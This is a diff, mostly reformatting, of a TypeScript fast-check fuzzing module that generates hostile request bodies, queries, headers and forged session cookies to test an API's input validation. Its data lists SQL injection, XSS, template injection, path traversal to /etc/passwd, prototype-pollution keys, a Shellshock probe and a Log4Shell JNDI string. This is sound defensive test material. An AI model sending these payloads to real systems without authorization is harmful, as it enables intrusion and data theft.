@@ -12,9 +12,9 @@ const wellFormed = (value: string) => value.replace(/[\uD800-\uDBFF](?![\uDC00-\
 
 export const SQL_SNIPPETS = [
   "' OR 1=1 --",
-  "'; drop table \"user\"; --",
+  '\'; drop table "user"; --',
   "; drop table member",
-  "\" OR \"\"=\"",
+  '" OR ""="',
   "1 UNION SELECT token FROM session --",
   "admin'--",
   "%' OR '%'='",
@@ -26,7 +26,7 @@ export const SQL_SNIPPETS = [
 export const MARKUP_SNIPPETS = [
   "<script>alert(1)</script>",
   "<img src=x onerror=alert(1)>",
-  "\"><svg onload=alert(1)>",
+  '"><svg onload=alert(1)>',
   "javascript:alert(1)",
   "{{constructor.constructor('alert(1)')()}}",
   "${7*7}",
@@ -55,7 +55,26 @@ export const UNICODE_SNIPPETS = [
   "\u001b[31m",
 ];
 
-export const ODD_TEXT = ["", " ", "null", "undefined", "NaN", "true", "[]", "{}", "__proto__", "constructor", "prototype", "../../etc/passwd", "%00", "%", "\\", "0x41", "-1", "1e309"];
+export const ODD_TEXT = [
+  "",
+  " ",
+  "null",
+  "undefined",
+  "NaN",
+  "true",
+  "[]",
+  "{}",
+  "__proto__",
+  "constructor",
+  "prototype",
+  "../../etc/passwd",
+  "%00",
+  "%",
+  "\\",
+  "0x41",
+  "-1",
+  "1e309",
+];
 
 /** A string a client should never send, from injection snippets to 100 kB and more. */
 export const hostileString: fc.Arbitrary<string> = fc.oneof(
@@ -68,7 +87,12 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
       .array(fc.constantFrom(...SQL_SNIPPETS, ...MARKUP_SNIPPETS, ...UNICODE_SNIPPETS, "a", "@", "example.com"), { minLength: 2, maxLength: 6 })
       .map((parts) => parts.join("")),
   },
-  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 200_000 }).chain((size) => fc.constantFrom("x", "<script>", "\u0000", "😀", "' OR 1=1 --").map((unit) => unit.repeat(Math.ceil(size / unit.length)))) },
+  {
+    weight: 1,
+    arbitrary: fc
+      .integer({ min: 100_000, max: 200_000 })
+      .chain((size) => fc.constantFrom("x", "<script>", "\u0000", "😀", "' OR 1=1 --").map((unit) => unit.repeat(Math.ceil(size / unit.length)))),
+  },
 );
 
 const hugeNumber = fc.constantFrom(1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER - 2, 5e-324, -0, 0.1, 2 ** 31, -(2 ** 31) - 1, 1e21);
@@ -84,7 +108,14 @@ export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>(
     fc.boolean(),
     fc.constant(null),
     fc.array(tie("value"), { maxLength: 4 }),
-    fc.dictionary(fc.oneof(hostileString.filter((key) => key.length < 200), fc.constantFrom("__proto__", "constructor", "role", "admin")), tie("value"), { maxKeys: 4 }),
+    fc.dictionary(
+      fc.oneof(
+        hostileString.filter((key) => key.length < 200),
+        fc.constantFrom("__proto__", "constructor", "role", "admin"),
+      ),
+      tie("value"),
+      { maxKeys: 4 },
+    ),
   ),
 })).value;
 
@@ -107,7 +138,27 @@ const rawJsonTexts = (fields: string[]) => {
   );
 };
 
-const INVALID_JSON = ["", " ", "{", "}", "{\"a\":", "[1,2", "{'a': 1}", "{\"a\": 1}}", "{\"a\": undefined}", "{\"a\": NaN}", "nul", "\u0000", "\uFEFF{}", "{\"a\": \"\u0000\"}", "{\"a\":\"\\uD800\"}", "{\"a\":\"\\x41\"}", "<xml/>", "a=1&b=2", "--boundary\r\n"];
+const INVALID_JSON = [
+  "",
+  " ",
+  "{",
+  "}",
+  '{"a":',
+  "[1,2",
+  "{'a': 1}",
+  '{"a": 1}}',
+  '{"a": undefined}',
+  '{"a": NaN}',
+  "nul",
+  "\u0000",
+  "\uFEFF{}",
+  '{"a": "\u0000"}',
+  '{"a":"\\uD800"}',
+  '{"a":"\\x41"}',
+  "<xml/>",
+  "a=1&b=2",
+  "--boundary\r\n",
+];
 
 const WRONG_CONTENT_TYPES = [
   "text/plain",
@@ -131,7 +182,18 @@ export interface HostileBody {
 }
 
 /** Values a real client would send, so that one hostile field among them gets past the others' checks. */
-const PLAUSIBLE = ["person@example.com", "Long-enough-Passphrase-42", "123456", "ABCD2345", "Europe/London", "GBP", "Ada Lovelace", "tutor", "admin", "00000000-0000-0000-0000-000000000000"];
+const PLAUSIBLE = [
+  "person@example.com",
+  "Long-enough-Passphrase-42",
+  "123456",
+  "ABCD2345",
+  "Europe/London",
+  "GBP",
+  "Ada Lovelace",
+  "tutor",
+  "admin",
+  "00000000-0000-0000-0000-000000000000",
+];
 
 /**
  * A body shaped like the operation's schema: either each field missing, plausible or hostile,
@@ -139,13 +201,20 @@ const PLAUSIBLE = ["person@example.com", "Long-enough-Passphrase-42", "123456", 
  */
 function shapedBody(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
   const fields = Object.keys(schema?.properties ?? {});
-  const plausible = (name: string) => fc.constantFrom(sampleOf(schema?.properties?.[name]), ...((schema?.properties?.[name]?.enum as unknown[] | undefined) ?? []), ...PLAUSIBLE);
+  const plausible = (name: string) =>
+    fc.constantFrom(sampleOf(schema?.properties?.[name]), ...((schema?.properties?.[name]?.enum as unknown[] | undefined) ?? []), ...PLAUSIBLE);
   const hostile = fc.oneof({ weight: 3, arbitrary: hostileString }, { weight: 1, arbitrary: hostileJson });
-  const mixed = fc.record(Object.fromEntries(fields.map((name) => [name, fc.oneof(hostile, plausible(name))])) as Record<string, fc.Arbitrary<unknown>>, { requiredKeys: [] });
+  const mixed = fc.record(Object.fromEntries(fields.map((name) => [name, fc.oneof(hostile, plausible(name))])) as Record<string, fc.Arbitrary<unknown>>, {
+    requiredKeys: [],
+  });
   const oneHostile =
     fields.length === 0
       ? mixed
-      : fc.constantFrom(...fields).chain((target) => fc.record(Object.fromEntries(fields.map((name) => [name, name === target ? hostile : plausible(name)])) as Record<string, fc.Arbitrary<unknown>>));
+      : fc
+          .constantFrom(...fields)
+          .chain((target) =>
+            fc.record(Object.fromEntries(fields.map((name) => [name, name === target ? hostile : plausible(name)])) as Record<string, fc.Arbitrary<unknown>>),
+          );
   return fc
     .record({
       fields: fc.oneof(mixed, oneHostile),
@@ -157,20 +226,46 @@ function shapedBody(schema: JsonSchema | undefined): fc.Arbitrary<unknown> {
 /** The bodies of every malformed kind, for an operation that takes a body. */
 export function hostileBody(operation: Operation): fc.Arbitrary<HostileBody> {
   const fields = Object.keys(operation.body?.properties ?? {});
-  const json = (kind: string) => (value: unknown): HostileBody => ({ kind, text: JSON.stringify(value), contentType: "application/json" });
+  const json =
+    (kind: string) =>
+    (value: unknown): HostileBody => ({ kind, text: JSON.stringify(value), contentType: "application/json" });
   return fc.oneof(
     { weight: 6, arbitrary: shapedBody(operation.body).map(json("shaped")) },
     { weight: 2, arbitrary: hostileJson.map(json("any JSON")) },
     { weight: 2, arbitrary: rawJsonTexts(fields).map((text): HostileBody => ({ kind: "raw JSON", text, contentType: "application/json" })) },
-    { weight: 2, arbitrary: fc.oneof(fc.constantFrom(...INVALID_JSON), fc.string({ unit: "binary", maxLength: 30 })).map((text): HostileBody => ({ kind: "invalid JSON", text, contentType: "application/json" })) },
     {
       weight: 2,
       arbitrary: fc
-        .tuple(shapedBody(operation.body), fc.constantFrom(...WRONG_CONTENT_TYPES))
-        .map(([value, contentType]): HostileBody => ({ kind: "wrong content type", text: contentType.includes("form") ? new URLSearchParams(Object.entries(value as Record<string, unknown>).map(([key, item]) => [key, wellFormed(typeof item === "string" ? item : (JSON.stringify(item) ?? ""))])).toString() : JSON.stringify(value), contentType })),
+        .oneof(fc.constantFrom(...INVALID_JSON), fc.string({ unit: "binary", maxLength: 30 }))
+        .map((text): HostileBody => ({ kind: "invalid JSON", text, contentType: "application/json" })),
     },
-    { weight: 1, arbitrary: shapedBody(operation.body).map((value): HostileBody => ({ kind: "no content type", bytes: new TextEncoder().encode(JSON.stringify(value)) })) },
-    { weight: 1, arbitrary: fc.constant<HostileBody>({ kind: "over 1 MB", text: JSON.stringify({ [fields[0] ?? "x"]: "x".repeat(1024 * 1024 + 1) }), contentType: "application/json" }) },
+    {
+      weight: 2,
+      arbitrary: fc.tuple(shapedBody(operation.body), fc.constantFrom(...WRONG_CONTENT_TYPES)).map(([value, contentType]): HostileBody => ({
+        kind: "wrong content type",
+        text: contentType.includes("form")
+          ? new URLSearchParams(
+              Object.entries(value as Record<string, unknown>).map(([key, item]) => [
+                key,
+                wellFormed(typeof item === "string" ? item : (JSON.stringify(item) ?? "")),
+              ]),
+            ).toString()
+          : JSON.stringify(value),
+        contentType,
+      })),
+    },
+    {
+      weight: 1,
+      arbitrary: shapedBody(operation.body).map((value): HostileBody => ({ kind: "no content type", bytes: new TextEncoder().encode(JSON.stringify(value)) })),
+    },
+    {
+      weight: 1,
+      arbitrary: fc.constant<HostileBody>({
+        kind: "over 1 MB",
+        text: JSON.stringify({ [fields[0] ?? "x"]: "x".repeat(1024 * 1024 + 1) }),
+        contentType: "application/json",
+      }),
+    },
   );
 }
 
@@ -185,9 +280,23 @@ export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
 
 /** A query string of the operation's parameters and others, with hostile, repeated and broken values. */
 export function hostileQuery(operation: Operation): fc.Arbitrary<string> {
-  const names = [...operation.parameters.filter((parameter) => parameter.in === "query").map((parameter) => parameter.name), "__proto__[admin]", "a[b][c]", "role", "token"];
+  const names = [
+    ...operation.parameters.filter((parameter) => parameter.in === "query").map((parameter) => parameter.name),
+    "__proto__[admin]",
+    "a[b][c]",
+    "role",
+    "token",
+  ];
   const pair = fc.oneof(
-    { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...names), hostileString.filter((value) => value.length < 20_000)).map(([name, value]) => `${encode(name)}=${encode(value)}`) },
+    {
+      weight: 4,
+      arbitrary: fc
+        .tuple(
+          fc.constantFrom(...names),
+          hostileString.filter((value) => value.length < 20_000),
+        )
+        .map(([name, value]) => `${encode(name)}=${encode(value)}`),
+    },
     { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...names), fc.constantFrom(...RAW_ESCAPES)).map(([name, raw]) => `${encode(name)}=${raw}`) },
     { weight: 1, arbitrary: fc.constantFrom("&", "=", "==", "&&&", "=x", "x", ...RAW_ESCAPES) },
   );
@@ -197,15 +306,45 @@ export function hostileQuery(operation: Operation): fc.Arbitrary<string> {
 /** A header value: Latin-1 without CR, LF or NUL (what the Fetch API lets a client send). */
 const headerValue = fc.oneof(
   fc.constantFrom(...SQL_SNIPPETS, ...MARKUP_SNIPPETS, "", "x".repeat(16_000), "() { :; }; echo vulnerable", "${jndi:ldap://example.com/a}"),
-  fc.string({ unit: fc.integer({ min: 0x20, max: 0xff }).filter((code) => code !== 0x7f).map((code) => String.fromCharCode(code)), maxLength: 60 }),
+  fc.string({
+    unit: fc
+      .integer({ min: 0x20, max: 0xff })
+      .filter((code) => code !== 0x7f)
+      .map((code) => String.fromCharCode(code)),
+    maxLength: 60,
+  }),
 );
 
 /** Extra request headers; `cookie` is added to the client's own cookies rather than replacing them. */
 export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
-  fc.dictionary(fc.constantFrom("accept", "accept-language", "accept-encoding", "user-agent", "x-forwarded-for", "x-forwarded-host", "x-real-ip", "forwarded", "x-http-method-override", "authorization", "cookie", "referer", "if-none-match", "range", "x-request-id", "sec-fetch-site", "origin"),
-  headerValue, { maxKeys: 3 }),
+  fc.dictionary(
+    fc.constantFrom(
+      "accept",
+      "accept-language",
+      "accept-encoding",
+      "user-agent",
+      "x-forwarded-for",
+      "x-forwarded-host",
+      "x-real-ip",
+      "forwarded",
+      "x-http-method-override",
+      "authorization",
+      "cookie",
+      "referer",
+      "if-none-match",
+      "range",
+      "x-request-id",
+      "sec-fetch-site",
+      "origin",
+    ),
+    headerValue,
+    { maxKeys: 3 },
+  ),
   // A forged or broken session cookie (and two-factor cookie) next to the real one.
   fc
-    .tuple(fc.constantFrom("glassroom.session_token", "glassroom.two_factor", "glassroom.session_data"), fc.oneof(headerValue, fc.constantFrom("%00", "%00.sig", "x.%E0%A4%A", "..", ";")))
+    .tuple(
+      fc.constantFrom("glassroom.session_token", "glassroom.two_factor", "glassroom.session_data"),
+      fc.oneof(headerValue, fc.constantFrom("%00", "%00.sig", "x.%E0%A4%A", "..", ";")),
+    )
     .map(([name, value]) => ({ cookie: `${name}=${value}` })),
 );
